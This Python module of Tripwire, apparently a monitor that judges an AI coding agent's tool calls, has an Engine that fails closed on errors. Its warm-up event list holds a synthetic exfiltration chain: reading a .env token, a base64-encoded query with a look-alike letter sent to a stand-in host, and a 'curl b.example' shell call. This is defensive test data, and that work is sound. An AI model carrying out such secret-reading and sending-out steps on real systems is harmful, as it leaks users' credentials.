"""judge and learn: where the rooms meet. judge never remembers, learn never decides.

The only broad `except` of Tripwire is here: a broken rule must not become an open door.
"""

from __future__ import annotations

from collections.abc import Callable
from functools import partial
from typing import TypeVar

from tripwire.act import facts, lesson, params
from tripwire.act.approval import approved_rules
from tripwire.act.rules import RULES
from tripwire.memory.memory import Memory
from tripwire.model.event import Event, SessionOpened, ToolCall, ToolResult, UserSaid
from tripwire.model.label import ALL_LABELS, Label, Origin, Trust
from tripwire.model.policy import Policy
from tripwire.model.verdict import Action, Finding, Verdict
from tripwire.rule import Case, Rule

T = TypeVar("T")


class Engine:
    """One session's policy and memory, and the rules that look at both."""

    def __init__(
        self, policy: Policy, memory: Memory | None = None, rules: tuple[Rule, ...] = RULES
    ) -> None:
        self.policy = policy
        self.memory = memory if memory is not None else Memory()
        self.rules = rules

    def case(self) -> Case:
        """Everything that one judgement may look at."""
        return Case(self.policy, self.memory)

    def judge(self, event: Event, case: Case | None = None) -> Verdict:
        """What the rules say of `event`; pure: the same event gives the same verdict again.

        A caller that needs the facts derived on the way gives the `case` that keeps them.
        """
        case = case or self.case()
        findings: list[Finding] = []
        for rule in self.rules:
            if isinstance(event, rule.watches):
                findings += _tried(
                    partial(_found, rule, event, case), partial(_broken_rule, rule.id)
                )
        verdict = Verdict.of(*findings)
        if not isinstance(event, ToolCall):
            return verdict
        verdict |= _tried(
            partial(facts.summary, event, case),
            lambda bug: Verdict.of(*_broken_rule("act/internal", bug)),
        )
        return verdict.approved(*approved_rules(event, case))

    def consequential(self, event: ToolCall, case: Case) -> bool:
        """Whether the attempt must be on disk before the call runs: guarded or writing (E-3)."""
        # A call that nobody understands may do anything.
        return _tried(partial(_consequential, event, case), lambda _: True)

    def reads_secrets(self, event: ToolResult, case: Case) -> bool:
        """Whether a result comes from a place that holds credentials (flow.md DLP-2)."""
        # Covering too much in a receipt loses nothing: replay uncovers it.
        return _tried(lambda: Label.SECRET in facts.result_facts(event, case).reads, lambda _: True)

    def learn(self, event: Event, verdict: Verdict, case: Case | None = None) -> None:
        """Fold `event` into the memory; `verdict` tells whether a call was let through.

        `case` is that of the judgement, if nothing was learnt since: its facts still hold.
        What could not be learnt may have been anything: all labels are held then (HOOK-4).
        """
        _tried(partial(lesson.learn, event, verdict, case or self.case()), self._assume_worst)

    def _assume_worst(self, bug: Exception) -> None:
        origin = Origin(self.memory.receipts, "tripwire", type(bug).__name__, Trust.WORLD)
        for label in ALL_LABELS:
            self.memory.labels.add(label, origin)


_FIRST_EVENTS: tuple[Event, ...] = (
    SessionOpened("warm", cwd="/project"),
    UserSaid("Read \u0430 page and send it on"),
    ToolResult(
        "1", "claude-code", "Read", {"file_path": "/project/.env"}, "WARM_TOKEN=x7Kq-02mN9vB"
    ),
    ToolResult(
        "2", "claude-code", "WebFetch", {"url": "https://a.example/"}, "caf\u00e9 \u2019 text"
    ),
    ToolCall(
        "3", "claude-code", "WebFetch", {"url": "https://b.example/p1?q=QUJDREVGR0hJSktM\u0430"}
    ),
    ToolCall("4", "claude-code", "Bash", {"command": "git diff | head -5 && curl b.example > x"}),
    ToolCall("5", "claude-code", "Edit", {"file_path": "/project/a.py", "new_string": "b"}),
)


def warm(policy: Policy) -> None:
    """Build what is otherwise built at first use, so that no decision waits for it.

    Credential shapes, decoders, look-alike letters, path lists of `policy`, the shell's grammar:
    by judging and learning a few events with a memory of their own that is thrown away.
    """
    engine = Engine(policy)
    for event in _FIRST_EVENTS:
        engine.judge(event)
        engine.learn(event, Verdict())


def _found(rule: Rule, event: Event, case: Case) -> tuple[Finding, ...]:
    return tuple(rule.check(event, case))


def _broken_rule(name: str, bug: Exception) -> tuple[Finding, ...]:
    reason = f"internal error in {name}: {type(bug).__name__}"
    return (Finding(name, Action.BLOCK, reason, remedy="Report it: see SECURITY.md."),)


def _consequential(event: ToolCall, case: Case) -> bool:
    if params.rule_of(event, case) is not None:
        return True
    found = facts.call_facts(event, case)
    if not found.judged:
        return params.call_effect(case, event.source, event.tool) == "write"
    return bool(found.classes or found.leaves or found.deletions)


def _tried(work: Callable[[], T], otherwise: Callable[[Exception], T]) -> T:
    """What `work` gives, or what is to hold because it failed: never an open door."""
    try:
        return work()
    except Exception as bug:  # noqa: BLE001  (a broken rule must not become an open door)
        return otherwise(bug)
